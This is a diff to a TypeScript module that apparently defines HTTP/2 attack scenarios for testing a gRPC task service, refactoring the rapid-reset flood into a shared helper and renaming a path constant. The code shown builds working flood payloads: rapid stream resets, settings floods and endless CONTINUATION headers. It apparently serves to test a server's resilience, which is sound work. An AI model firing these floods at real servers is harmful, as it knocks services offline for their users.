@@ -2,14 +2,15 @@
 import type { Socket } from 'node:net';
 import {
   callHeaders,
-  END_HEADERS,
   END_STREAM,
   FRAME,
   h2Connect,
   h2Frame,
   hpackFrames,
+  LIST_TASKS,
   plainHeader,
   pour,
+  resetCalls,
 } from '../h2-frames.js';
 import type { Attack } from '../scenario.js';
 
@@ -36,25 +37,9 @@ function flood(makeFrames: () => () => Buffer, reads = true): Attack {
   };
 }
 
-const PATH = '/taskdash.task.v1.TaskService/ListTasks';
 const repeated = (frame: Buffer, times: number) => Buffer.concat(Array.from({ length: times }, () => frame));
 
-/** Streams that are opened and reset at once. */
-export const rapidReset = flood(() => {
-  let stream = -1;
-  const cancel = Buffer.from([0, 0, 0, 8]);
-  return () => {
-    const frames: Buffer[] = [];
-    for (let n = 0; n < 100; n++) {
-      stream += 2;
-      frames.push(
-        h2Frame(FRAME.headers, END_HEADERS, stream, callHeaders(PATH)),
-        h2Frame(FRAME.reset, 0, stream, cancel),
-      );
-    }
-    return Buffer.concat(frames);
-  };
-});
+export const rapidReset = flood(resetCalls);
 
 export const settingsFlood = flood(() => {
   const frames = repeated(h2Frame(FRAME.settings, 0, 0), 1_000);
@@ -74,7 +59,7 @@ export const unreadPings = flood(() => {
 
 /** Headers that never end. */
 export const continuationFlood = flood(() => {
-  const begin = h2Frame(FRAME.headers, END_STREAM, 1, callHeaders(PATH));
+  const begin = h2Frame(FRAME.headers, END_STREAM, 1, callHeaders(LIST_TASKS));
   const more = repeated(h2Frame(FRAME.continuation, 0, 1, plainHeader('x', 'y'.repeat(100))), 100);
   let isBegun = false;
   return () => {
